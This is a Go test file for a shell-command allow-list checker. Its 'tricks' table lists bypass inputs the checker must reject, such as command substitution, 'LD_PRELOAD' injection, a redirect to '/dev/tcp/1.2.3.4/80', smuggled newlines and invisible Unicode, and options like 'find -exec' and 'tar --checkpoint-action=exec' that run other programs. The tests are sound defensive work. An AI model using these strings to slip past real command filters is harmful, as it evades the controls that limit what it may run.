package exec

import (
	"encoding/json"
	"os/exec"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
)

// generous is an allow-list that holds the words of all tricks below, so that what
// makes each a miss is the trick.
var generous = []string{
	"git status", "git log *", "git diff *", "git push", "ls *", "cat *", "echo *", "true *", "find *", "sort *", "grep *", "rg *", "tar *", "go *", "curl *", "tee *",
	"PATH=/tmp *", "sh", "env", "sleep *", "./tool *", "/usr/bin/id *", "rm",
}

// tricks are lines that look as if they were on the list.
var tricks = map[string][]string{
	"substitution":   {"echo $(id)", "echo `id`", "echo \"$(id)\"", "echo \"`id`\"", "$(echo ls)", "`echo ls`", "echo <(id)", "echo >(id)", "echo $((1+1))", "echo $[1+1]", "ls ${x:-$(id)}", "git log --format=$(id)", "echo ${ id; }", "echo ${|id;}"},
	"variables":      {"echo $HOME", "$SHELL", "ls ${HOME}", "ls \"$HOME\"", "${x}ls", "ls $1", "ls $@", "ls $'\\x41'", "ls $\"x\"", "echo $", "ls $x", "e$()cho hi", "l${x}s"},
	"assignments":    {"PATH=/tmp ls", "LD_PRELOAD=/tmp/x.so ls", "X=1", "GIT_PAGER=id git log -1", "X=$(id) ls", "A=1 B=2 true x", "X+=1 ls", "a[0]=1 ls", "IFS=x ls"},
	"shell words":    {"eval ls", "source x", ". x", "exec ls", "command ls", "builtin echo x", "alias ls=rm", "export X=1", "trap ls EXIT", "set -e", "cd /", "unset X", "type ls", "hash ls", "enable x", ":", "coproc ls", "time ls", "readonly X=1", "shopt -s x", "let x=1"},
	"redirections":   {"ls > f", "ls >> f", "ls < f", "ls 2> f", "ls &> f", "ls >& f", "ls >| f", "ls <> f", "ls >&2", "ls 2>&1 2>&1", "ls 3>&1", "ls 2>&-", "> f", "cat <<< x", "cat << E\nx\nE", "ls >/dev/null", "ls 2>&1 > f", "ls 12>&1", "ls {fd}>&1", "ls >/dev/tcp/1.2.3.4/80"},
	"background":     {"ls &", "ls & ls", "sleep 9 & true x", "ls &!", "ls | cat &", "true x || ls &", "(ls &)", "ls & disown"},
	"groups":         {"(ls)", "{ ls; }", "if true x; then ls; fi", "for i in a; do ls; done", "while true x; do ls; done", "until ls; do ls; done", "case a in a) ls;; esac", "f() { ls; }; f", "function f { ls; }", "[[ -f x ]]", "((1))", "! ls", "ls |& cat", "select x in a; do ls; done", "echo x | (cat)", "! true x | ls"},
	"quoting":        {`l\s`, `"ls"`, `'ls'`, `l''s`, `l""s`, `\ls`, `$'ls'`, `ls \; id`, `ls a\ b`, `ls "a\"b"`, `ls "a\nb"`, `ls \`, `ls 'a`, `ls "a`, `echo "a!b"`, `"git" status`, `git\ status`, `'git status'`, `git "st"at\us`},
	"globs":          {"ls *", "ls ?", "ls [a-z]", "l?", "/bin/l[s]", "/usr/bin/*d", "ls {a,b}", "{ls,-l}", "l{s,d}", "ls {1..9}", "echo @(a|b)", "ls ~", "ls ~root", "ls x:~/y", "ls --x=~/y", "ls **", "~/ls", "ls HEAD@{1}"},
	"characters":     {"ls\nid", "ls\rid", "ls\r\nid", "ls\x00id", "ls \x1b[2K", "ls\tx", "ls\u00a0x", "ls\u2003x", "ls\u200bx", "l\u200ds", "ls \u202eid", "ls \u2066x\u2069", "ls \ufeff", "\ufeffls", "ls \u2028id", "ls \u0085id", "l\u0455", "\uff4c\uff53", "ls \xff", "ls \xc0\xaf", "ls\x7f", "ls \u00ad", "ls \ufe0f", "ls\vx", "ls\fx", "ls\x08", "ls \u3164", "ls \U000e0041"},
	"comments":       {"ls # x", "# x", "ls #", "ls; # x", "#!/bin/sh", "ls #x\n id"},
	"syntax":         {"", " ", ";", "ls;;", "ls &&", "&& ls", "ls |", "| ls", "ls )", "ls (", "ls || || ls", "ls | | cat", "ls &&& ls", "((", "))", "ls ;; id", "}", "fi", "ls;|cat", "ls () { id; }", "ls <"},
	"unlisted":       {"id", "ls; id", "ls && id", "ls || id", "ls | id", "id | ls", "git", "git push -f", "git statusx", "git status -s", "gitx status", "git  log2", "/bin/ls", "./ls", "../ls", "LS", "Git status", "sh -c id", "env id", "rm -rf x", "git -c a.b=c status", "tool", "./tool2", "././tool", "lsx", "-ls"},
	"reaching":       {"git log --output=f", "git log --outp=f", "git diff --ext-diff", "git diff --no-index a b", "git log --textconv", "find . -exec id +", "find . -delete", "find . -fprintf f x", "find . -ok id", "sort -o f", "sort -uof", "sort --compress-program=id", "sort --comp=id", "rg --pre=id x", "rg --pre id", "tar -xf a", "tar xf a --to-command=id", "tar --to-c=id", "tar --checkpoint-action=exec=id", "tar -cf a b", "go -C x test", "go test -exec id", "go vet -vettool=id", "go build -toolexec id", "curl -o f x", "curl -sSLo f x", "curl --config f", "curl -K f", "curl -d @f x"},
	"shell comments": {"ls '#' # x"},
}

func TestTricksAreMisses(t *testing.T) {
	t.Parallel()
	allow := patterns(t, slices.DeleteFunc(slices.Clone(generous), func(s string) bool { return strings.Contains(s, "=") })...)
	count := 0
	for kind, lines := range tricks {
		for _, line := range lines {
			count++
			if v := Judge(allow, args(t, line)); v.Allowed || v.Lines != nil || v.Reason == "" {
				t.Errorf("%s: %q is allowed as %v", kind, line, v.Lines)
			}
		}
	}
	t.Logf("%d tricks", count)
	// JSON's own ways to say a line.
	for _, raw := range []string{``, `{`, `[]`, `{"command":1}`, `{"command":"ls\u0000"}`, `{"command":"ls\nid"}`, `{"command":"ls\ud800"}`, `{"Command":"id","command":"id"}`, `null`} {
		if v := Judge(allow, json.RawMessage(raw)); v.Allowed {
			t.Errorf("%s is allowed as %v", raw, v.Lines)
		}
	}
}

func TestListedWords(t *testing.T) {
	t.Parallel()
	allow := patterns(t, append(generous[:8:8], "make test-*", "./tool *", "grep *", "sort *", "find *", "rg *", "wc -*", "pre *x*y *")...)
	for line, want := range map[string][]Pipeline{
		"git status":       {one("git", "status")},
		"git log":          {one("git", "log")},
		"  git   log  -1 ": {one("git", "log", "-1")},
		"git log --oneline --format='%H %s' \"a b\"": {one("git", "log", "--oneline", "--format=%H %s", "a b")},
		"ls -l; ls":                    {one("ls", "-l"), one("ls")},
		"ls && ls || ls":               {one("ls"), after("&&", "ls"), after("||", "ls")},
		"ls 2>&1 | sort -n":            {{Commands: []Simple{{Words: []string{"ls"}, Join: true}, {Words: []string{"sort", "-n"}}}}},
		"grep '$x|y' f | grep \"a;b\"": {{Commands: []Simple{{Words: []string{"grep", "$x|y", "f"}}, {Words: []string{"grep", "a;b"}}}}},
		"make test-unit":               {one("make", "test-unit")},
		"./tool a":                     {one("./tool", "a")},
		"ls 'ünï' größe":               {one("ls", "ünï", "größe")},
		"ls ''":                        {one("ls", "")},
		"find . -name '*.go'":          {one("find", ".", "-name", "*.go")},
		"pre axby more":                {one("pre", "axby", "more")},
		"ls a=b --c=d e#f g!h":         {one("ls", "a=b", "--c=d", "e#f", "g!h")},
	} {
		v := Judge(allow, args(t, line))
		if !v.Allowed {
			t.Errorf("%q: %s", line, v.Reason)
		} else if diff := cmp.Diff(want, v.Lines); diff != "" {
			t.Errorf("%q: %s", line, diff)
		}
	}
	for _, line := range []string{"make test-", "make testx", "make test-a b", "wc l", "pre axb", "make"} {
		if v := Judge(allow, args(t, line)); v.Allowed != (line == "make test-") {
			t.Errorf("%q: allowed %t", line, v.Allowed)
		}
	}
}

func one(words ...string) Pipeline { return Pipeline{Commands: []Simple{{Words: words}}} }

func after(op string, words ...string) Pipeline {
	p := one(words...)
	p.After = op
	return p
}

// A program that a folder gives its meaning is run from the workspace alone.
func TestFolderOfAProgram(t *testing.T) {
	t.Parallel()
	allow := patterns(t, "./tool *", "ls *")
	for cwd, want := range map[string]bool{"": true, ".": true, "./": true, "sub": false, "..": false, "/tmp": false} {
		if v := Judge(allow, args(t, "./tool x", "cwd", cwd)); v.Allowed != want {
			t.Errorf("in %q: allowed %t", cwd, v.Allowed)
		}
		if v := Judge(allow, args(t, "ls x", "cwd", cwd)); !v.Allowed {
			t.Errorf("ls in %q: %s", cwd, v.Reason)
		}
	}
}

func TestPatternsThatCantBe(t *testing.T) {
	t.Parallel()
	for _, text := range []string{"", " ", "*", "* x", "g* log", "ls $x", "ls 'a b'", `ls \x`, "ls | wc", "ls; id", "ls\nid", "eval *", "cd *", ". x", "X=1 ls", "~/x", "-x", "ls\u200b", "(ls)", "ls > f", "ls &", "time ls"} {
		if p, err := ParsePattern(text); err == nil {
			t.Errorf("%q is taken as %+v", text, p)
		}
	}
}

func TestPatternsThatAllowMore(t *testing.T) {
	t.Parallel()
	for text, want := range map[string]bool{
		"env *": true, "sh *": true, "bash -c *": true, "sudo *": true, "python3.12 *": true, "python *": true, "xargs *": true, "node *": true, "/usr/bin/env *": true, "git *": true, "go *": true,
		"awk *": true, "vim *": true, "ssh host *": true, "timeout 5 *": true, "perl *": true, "make *": true, "nohup *": true, "sed s*": true, "npm *": true, "npm run *": true,
		"sh": false, "env": false, "git log *": false, "go test *": false, "ls *": false, "cat *": false, "make test": false, "npm test": false, "find *": false, "python3 tool.py": false,
	} {
		p, err := ParsePattern(text)
		if err != nil {
			t.Fatal(err)
		}
		if got := p.Warning(); (got != "") != want {
			t.Errorf("%q: %q", text, got)
		}
	}
}

// TestEntries makes sure that what a miss says would allow it does, and no more
// than the line.
func TestEntries(t *testing.T) {
	t.Parallel()
	for line, want := range map[string][]string{
		"git push origin main": {"git push origin main"},
		"ls -l | wc -l":        {"ls -l", "wc -l"},
		"echo 'a b'":           nil,
		"echo '*'":             nil,
		"echo $x":              nil,
		"git log --output=f":   {"git log --output=f"},
	} {
		v := Judge(nil, args(t, line))
		if diff := cmp.Diff(want, v.Entries); diff != "" || v.Advice() == "" {
			t.Errorf("%q: %s", line, diff)
		}
		if want != nil && !Judge(patterns(t, v.Entries...), args(t, line)).Allowed {
			t.Errorf("%q is still a miss with %q", line, v.Entries)
		}
	}
}

// FuzzJudge: what is allowed is made of listed words, and a shell, where there is
// one, would run the very same words.
func FuzzJudge(f *testing.F) {
	for _, lines := range tricks {
		for _, line := range lines {
			f.Add(line)
		}
	}
	for _, line := range []string{"ls -l; git status", "cat 'a b' \"c\" | sort -n 2>&1", "echo a'b'\"c\"d && true x || ls", "ls 'x'y"} {
		f.Add(line)
	}
	var allow []Pattern
	for _, text := range generous {
		if p, err := ParsePattern(text); err == nil {
			allow = append(allow, p)
		}
	}
	shell, _ := exec.LookPath("sh")
	f.Fuzz(func(t *testing.T, line string) {
		raw, err := json.Marshal(map[string]string{"command": line})
		if err != nil || !utf8.ValidString(line) {
			t.Skip()
		}
		v := Judge(allow, raw)
		if !v.Allowed {
			if v.Reason == "" || v.Lines != nil {
				t.Errorf("%q is a miss: %+v", line, v)
			}
			return
		}
		for _, p := range v.Lines {
			for _, c := range p.Commands {
				if !slices.ContainsFunc(allow, func(p Pattern) bool { return p.Match(c.Words) }) {
					t.Errorf("%q runs %q", line, c.Words)
				}
			}
		}
		if shell != "" {
			compare(t, shell, line, v.Lines)
		}
	})
}

// compare has a shell read a line in which every program is a function that prints
// its words, and holds that against the words that would run.
func compare(t *testing.T, shell, line string, lines []Pipeline) {
	t.Helper()
	var script, want strings.Builder
	names := map[string]bool{}
	for _, p := range lines {
		for _, c := range p.Commands {
			names[c.Words[0]] = true
		}
	}
	if len(lines) != 1 || len(lines[0].Commands) != 1 || strings.ContainsAny(lines[0].Commands[0].Words[0], "/.-") {
		return // what runs of several depends on how they end; their words are read alike
	}
	for name := range names {
		script.WriteString(name + `() { printf '<%s>' "` + name + `" "$@"; }` + "\n")
	}
	script.WriteString(line + "\n")
	for _, w := range lines[0].Commands[0].Words {
		want.WriteString("<" + w + ">")
	}
	out, err := exec.Command(shell, "-c", script.String()).Output()
	if err != nil || string(out) != want.String() {
		t.Errorf("%q: a shell runs %q (%v), and we %q", line, out, err, want.String())
	}
}
